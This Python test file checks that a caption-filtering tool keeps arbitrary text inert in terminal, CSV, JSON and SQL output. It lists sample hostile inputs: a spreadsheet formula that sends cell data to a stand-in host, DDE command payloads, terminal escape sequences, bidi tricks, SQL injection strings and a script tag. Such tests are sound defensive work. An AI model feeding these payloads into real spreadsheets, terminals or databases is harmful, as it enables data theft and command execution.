"""A caption on its way out: whatever it says, it stays text in a terminal, in a spreadsheet, in JSON and in SQL."""

import csv
import io
import json
import re

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from capfilt.cli.terminal import console
from capfilt.cli.terminal.query_formats import format_table
from capfilt.core import duckdb_sandbox
from capfilt.pipelines.readers.rows.reader import Row, raw_table

HOSTILE = [
    "=HYPERLINK('http://evil.example?x='&A1)",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    "\x1b]0;owned\x07\x1b[2J\x1b[31m",
    "a\u202edrow\u202c b",
    "\u2066\u2067abc",
    "nul\x00 and \x9b31m",
    "'; DROP TABLE captions; --",
    "\"); ATTACH '/tmp/x.db'; --",
    "<script>alert(1)</script>",
    'a,b;"c"\nd',
    "half \ud83d of a pair",
    "x" * 20_000,
]
FORMULA = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")


def as_read(text: str) -> str:
    """The text as it stands in a run; empty where nothing was left of it."""
    texts = raw_table([Row("0", "http://a.example/", [text])])["texts"].to_pylist()[0]
    return str(texts[0]["text"]) if texts else ""


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
@pytest.mark.parametrize("clean", [True, False], ids=["as read", "as it came"])
def test_no_format_lets_it_out(text: str, clean: bool) -> None:
    """Even a text that never went through the readers, say of a captioner."""
    if not clean and re.search("[\ud800-\udfff]", text):
        pytest.skip("Arrow cannot hold it")
    text = as_read(text) if clean else text
    table = pa.table({"text": [text], "n": [1]})
    for kind in ("table", "csv"):
        assert not CONTROL.search(format_table(table, kind, 80).replace("\t", " ")), kind
    [_, row] = csv.reader(io.StringIO(format_table(table, "csv")))
    assert not row[0].startswith(FORMULA)
    assert json.loads(format_table(table, "json")) == [{"text": text, "n": 1}]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_a_terminal_shows_it_in_one_harmless_line(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    console.say(text)
    console.table(("text",), [(as_read(text)[:100],)])
    assert not CONTROL.search(capsys.readouterr().out)


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_sql_sees_a_value(text: str) -> None:
    read = as_read(text)
    with duckdb_sandbox.connect({"captions": pa.table({"text": [read]})}) as connection:
        assert connection.execute("SELECT text FROM captions WHERE text = ?", [read]).fetchall() == [(read,)]
        assert connection.execute("SELECT count(*) FROM captions").fetchall() == [(1,)]


@given(st.text(max_size=60))
def test_no_text_is_a_formula_in_a_spreadsheet(text: str) -> None:
    table = pa.table({"text": [text], "list": [[text]], "struct": [{"a": text}]})
    [_, row] = csv.reader(io.StringIO(format_table(table, "csv")))
    assert not any(cell.startswith(FORMULA) for cell in row)
